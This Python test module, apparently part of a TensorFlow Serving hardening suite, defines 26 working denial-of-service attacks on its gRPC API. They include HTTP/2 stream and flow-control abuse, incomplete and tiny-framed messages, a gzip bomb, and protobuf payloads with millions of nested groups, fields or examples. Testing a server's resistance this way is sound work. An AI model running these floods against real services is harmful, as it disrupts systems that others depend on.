"""Attacks on the gRPC API."""

from __future__ import annotations

import contextlib
import gzip
import itertools
import time
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor

import grpc

from tests.attacks.http2 import Connection, prefixed
from tests.attacks.measure import Attack
from tfserve.protos import apis_pb2
from tfserve.protos.saved_model_pb2 import DataType, TensorProto
from tfserve.protos.wire import length_delimited

PREDICT = "PredictionService/Predict"
CLASSIFY = "PredictionService/Classify"
REGRESS = "PredictionService/Regress"
MULTI_INFERENCE = "PredictionService/MultiInference"
METADATA = "PredictionService/GetModelMetadata"
STATUS = "ModelService/GetModelStatus"
RELOAD = "ModelService/HandleReloadConfigRequest"
HEALTH_CHECK = "/grpc.health.v1.Health/Check"  # needs --enable_grpc_healthcheck_service
HEALTH_WATCH = "/grpc.health.v1.Health/Watch"

_SECONDS = 10.0
_MODEL = apis_pb2.ModelSpec(name="m")
_INPUT_TAG = 2 << 3 | 2  # of `inputs` in PredictRequest
_MB = 1_000_000


def predict(tensor: bytes, repeat: int = 1, alias: bytes = b"x") -> bytes:
    """Returns a serialized PredictRequest with a serialized tensor, which may be there several times."""
    spec = apis_pb2.PredictRequest(model_spec=_MODEL).SerializeToString()
    entry = length_delimited(1 << 3 | 2, alias) + length_delimited(2 << 3 | 2, tensor)
    return spec + length_delimited(_INPUT_TAG, entry) * repeat


def one_value(elements: int) -> bytes:
    """Returns a serialized tensor of `elements` floats that lists one of them."""
    tensor = TensorProto(dtype=DataType.DT_FLOAT, float_val=[1.0])
    tensor.tensor_shape.dim.add(size=elements)
    serialized: bytes = tensor.SerializeToString()
    return serialized


def tensor(dtype: DataType, size: int, values: bytes) -> bytes:
    """Returns a serialized tensor with serialized values."""
    head = TensorProto(dtype=dtype)
    head.tensor_shape.dim.add(size=size)
    serialized: bytes = head.SerializeToString()
    return serialized + values


def each(host: str, port: int, connections: int, act: Callable[[Connection], None], window: int = 65535) -> None:
    """Runs `act` with each of several connections at the same time."""

    def run(_: int) -> None:
        with contextlib.suppress(OSError), Connection(host, port, window) as connection:
            act(connection)

    with ThreadPoolExecutor(connections) as threads:
        list(threads.map(run, range(connections)))


def _send(host: str, port: int, method: str, messages: Iterator[bytes] | list[bytes], clients: int = 4) -> None:
    """Sends messages with ordinary clients, and waits for all answers."""

    def run(message: bytes) -> None:
        options = [("grpc.max_receive_message_length", -1), ("grpc.use_local_subchannel_pool", 1)]
        with grpc.insecure_channel(f"{host}:{port}", options) as channel, contextlib.suppress(grpc.RpcError):
            channel.unary_unary(f"/tensorflow.serving.{method}")(message, timeout=60)

    with ThreadPoolExecutor(clients) as threads:
        list(threads.map(run, messages))


def answers_that_are_never_read(host: str, port: int) -> None:
    """Requests of 60 bytes, each with an answer of 16 or 64 MB, which no one reads."""

    def act(connection: Connection) -> None:
        for elements in [4 << 20] * 50 + [16 << 20] * 50:
            connection.call(PREDICT, predict(one_value(elements)))
        time.sleep(_SECONDS)

    each(host, port, 1, act)


def answers_with_a_closed_window(host: str, port: int) -> None:
    """The same over 100 connections, with 4 MB each, whose windows stay closed and which answer pings."""
    message = predict(one_value(1 << 20))

    def act(connection: Connection) -> None:
        for _ in range(20):
            connection.call(PREDICT, message)
        connection.read_until(time.monotonic() + _SECONDS)

    each(host, port, 100, act, window=0)


def expanded_requests(host: str, port: int) -> None:
    """Requests of 60 bytes that describe 16 or 64 MB, whose answers are read."""
    _send(host, port, PREDICT, [predict(one_value(size << 20)) for size in (4, 16)] * 40, clients=16)


def open_streams(host: str, port: int) -> None:
    """20,000 calls without a message, over 20 connections."""

    def act(connection: Connection) -> None:
        connection.open(PREDICT, 1000)
        connection.read_until(time.monotonic() + _SECONDS)

    each(host, port, 20, act)


def open_streams_over_many_connections(host: str, port: int) -> None:
    """30,000 calls without a message, over 300 connections."""

    def act(connection: Connection) -> None:
        connection.open(PREDICT, 100)
        connection.read_until(time.monotonic() + _SECONDS)

    each(host, port, 300, act)


def short_incomplete_messages(host: str, port: int) -> None:
    """15,000 calls of which 60 KB of a message arrive, over 150 connections."""
    part = prefixed(bytes(60_000), declared=100_000)

    def act(connection: Connection) -> None:
        for stream in connection.open(PREDICT, 100):
            if not connection.send(stream, part, patience=1):
                break
        connection.read_until(time.monotonic() + _SECONDS)

    each(host, port, 150, act)


def large_incomplete_messages(host: str, port: int) -> None:
    """100 messages of which all but the last byte arrive: 10 MB each."""
    part = prefixed(bytes(10 * _MB), declared=10 * _MB + 1)

    def act(connection: Connection) -> None:
        (stream,) = connection.open(PREDICT)
        connection.send(stream, part)
        connection.read_until(time.monotonic() + _SECONDS)

    each(host, port, 100, act)


def huge_incomplete_messages(host: str, port: int) -> None:
    """8 messages of which all but the last byte arrive: 120 MB each, in frames of 24 bytes."""
    part = prefixed(bytes(120 * _MB), declared=120 * _MB + 1)

    def act(connection: Connection) -> None:
        (stream,) = connection.open(PREDICT)
        connection.send(stream, part, frame=24)
        connection.read_until(time.monotonic() + _SECONDS)

    each(host, port, 8, act)


def tiny_frames(host: str, port: int) -> None:
    """4 messages of 60 MB in frames of 24 bytes."""
    message = predict(tensor(DataType.DT_FLOAT, 15 * _MB, length_delimited(5 << 3 | 2, bytes(60 * _MB))))

    def act(connection: Connection) -> None:
        (stream,) = connection.open(PREDICT)
        connection.send(stream, prefixed(message), end=True, frame=24)
        connection.read_until(time.monotonic() + _SECONDS)

    each(host, port, 4, act)


def reset_streams(host: str, port: int) -> None:
    """Calls that are reset at once, 1,000 on each of 100 connections."""

    def act(connection: Connection) -> None:
        for _ in range(100):
            connection.reset(connection.open(PREDICT, 10))
        connection.read_until(time.monotonic() + 1)

    each(host, port, 100, act)


def compressed_messages(host: str, port: int) -> None:
    """Messages of 1 MB that are 1 GB once they are unpacked."""
    message = gzip.compress(bytes(1000 * _MB), 9)

    def act(connection: Connection) -> None:
        (stream,) = connection.open(PREDICT, compression="gzip")
        connection.send(stream, prefixed(message, compressed=True), end=True)
        connection.read_until(time.monotonic() + _SECONDS)

    each(host, port, 4, act)


def many_connections(host: str, port: int) -> None:
    """2,000 connections that send nothing but a preface."""
    with contextlib.ExitStack() as stack, contextlib.suppress(OSError):
        for _ in range(2000):
            stack.enter_context(Connection(host, port))
        time.sleep(_SECONDS)


def large_honest_requests(host: str, port: int) -> None:
    """8 requests with a tensor of 120 MB each, which no limit forbids."""
    message = predict(tensor(DataType.DT_FLOAT, 30 * _MB, length_delimited(5 << 3 | 2, bytes(120 * _MB))))
    _send(host, port, PREDICT, [message] * 8, clients=4)


def empty_strings(host: str, port: int) -> None:
    """3, 100 and 200 MB of empty strings in a tensor."""
    for count in (1_900_000, 50 * _MB, 100 * _MB):
        _send(host, port, PREDICT, [predict(tensor(DataType.DT_STRING, count, b"\x42\0" * count))] * 3)


def one_byte_numbers(host: str, port: int) -> None:
    """15 and 100 MB of numbers of one byte, of each type, packed."""
    kinds = ((DataType.DT_INT32, 7), (DataType.DT_INT64, 10), (DataType.DT_HALF, 13))
    for size, (dtype, field) in itertools.product((15 * _MB, 100 * _MB), kinds):
        values = bytes([1]) * size
        packed = field << 3 | 2
        _send(host, port, PREDICT, [predict(tensor(dtype, len(values), length_delimited(packed, values)))])


def unpacked_numbers(host: str, port: int) -> None:
    """100 MB of numbers of two bytes that are not packed."""
    for dtype, field in ((DataType.DT_INT32, 7), (DataType.DT_INT64, 10)):
        values = bytes([field << 3, 1]) * (50 * _MB)
        _send(host, port, PREDICT, [predict(tensor(dtype, 50 * _MB, values))])


def repeated_map_entries(host: str, port: int) -> None:
    """100 MB of map entries, all of the same key and of different keys."""
    _send(host, port, PREDICT, [predict(b"", repeat=14 * _MB)])
    spec = apis_pb2.PredictRequest(model_spec=_MODEL).SerializeToString()
    entries = b"".join(length_delimited(_INPUT_TAG, length_delimited(1 << 3 | 2, b"%d" % i)) for i in range(8 * _MB))
    _send(host, port, PREDICT, [spec + entries])


def output_filters(host: str, port: int) -> None:
    """100 MB of names in an output filter."""
    spec = apis_pb2.PredictRequest(model_spec=_MODEL).SerializeToString()
    _send(host, port, PREDICT, [spec + b"\x1a\0" * (50 * _MB), spec + b"\x1a\x01x" * (33 * _MB)])


def unknown_fields(host: str, port: int) -> None:
    """100 MB of fields and groups that the message does not have."""
    spec = apis_pb2.PredictRequest(model_spec=_MODEL).SerializeToString()
    _send(host, port, PREDICT, [spec + b"\x28\x01" * (50 * _MB), spec + b"\x2b\x2c" * (50 * _MB)])


def deep_groups(host: str, port: int) -> None:
    """Groups in groups, 50 million deep."""
    spec = apis_pb2.PredictRequest(model_spec=_MODEL).SerializeToString()
    _send(host, port, PREDICT, [spec + b"\x2b" * (50 * _MB) + b"\x2c" * (50 * _MB)])


def empty_dimensions(host: str, port: int) -> None:
    """50 million dimensions in a shape, and as many empty submessages for one."""
    shape = length_delimited(2 << 3 | 2, b"\x12\0" * (25 * _MB))
    _send(host, port, PREDICT, [predict(b"\x08\1" + shape), predict(b"\x08\1" + b"\x12\0" * (50 * _MB))])


def empty_examples(host: str, port: int) -> None:
    """50 million empty examples for each method that takes some."""
    spec = length_delimited(1 << 3 | 2, b"\x0a\1m\x1a\x0fclassify_x_to_y")
    examples = length_delimited(2 << 3 | 2, length_delimited(1 << 3 | 2, b"\x0a\0" * (50 * _MB)))
    tasks = length_delimited(1 << 3 | 2, spec + length_delimited(2 << 3 | 2, b"tensorflow/serving/classify"))
    for method, head in ((CLASSIFY, spec), (REGRESS, spec), (MULTI_INFERENCE, tasks)):
        _send(host, port, method, [head + examples])


def many_features(host: str, port: int) -> None:
    """An example with 10 million features, and 1,000 examples that share a context of 1 MB."""
    spec = length_delimited(1 << 3 | 2, b"\x0a\1m\x1a\x0fclassify_x_to_y")
    features = length_delimited(1 << 3 | 2, b"\x0a\x05\x0a\1x\x12\0" * (10 * _MB))
    one = length_delimited(2 << 3 | 2, length_delimited(1 << 3 | 2, length_delimited(1 << 3 | 2, features)))
    context = length_delimited(2 << 3 | 2, bytes(_MB)) + b"\x0a\0" * 1000
    _send(
        host, port, CLASSIFY, [spec + one, spec + length_delimited(2 << 3 | 2, length_delimited(2 << 3 | 2, context))]
    )


def many_tasks(host: str, port: int) -> None:
    """30 million tasks in one request."""
    _send(host, port, MULTI_INFERENCE, [b"\x0a\0" * (30 * _MB), b"\x0a\x05\x0a\x03\x0a\1m" * (10 * _MB)])


def large_status_requests(host: str, port: int) -> None:
    """200 MB for the methods whose requests are short."""
    name = length_delimited(1 << 3 | 2, length_delimited(1 << 3 | 2, b"m" * (100 * _MB)))
    fields = length_delimited(1 << 3 | 2, b"\x0a\1m") + b"\x12\0" * (50 * _MB)
    _send(host, port, STATUS, [name, b"\x12\0" * (50 * _MB)])
    _send(host, port, METADATA, [name, fields])


def metric_names(host: str, port: int) -> None:
    """A reload with 100 MB of names of metrics, and one with as many models."""
    models = length_delimited(1 << 3 | 2, length_delimited(1 << 3 | 2, b"\x0a\0" * (50 * _MB)))
    _send(host, port, RELOAD, [b"\x12\0" * (50 * _MB), models])


ATTACKS: list[Attack] = [
    answers_that_are_never_read,
    answers_with_a_closed_window,
    expanded_requests,
    open_streams,
    open_streams_over_many_connections,
    short_incomplete_messages,
    large_incomplete_messages,
    huge_incomplete_messages,
    tiny_frames,
    reset_streams,
    compressed_messages,
    many_connections,
    large_honest_requests,
    empty_strings,
    one_byte_numbers,
    unpacked_numbers,
    repeated_map_entries,
    output_filters,
    unknown_fields,
    deep_groups,
    empty_dimensions,
    empty_examples,
    many_features,
    many_tasks,
    large_status_requests,
    metric_names,
]
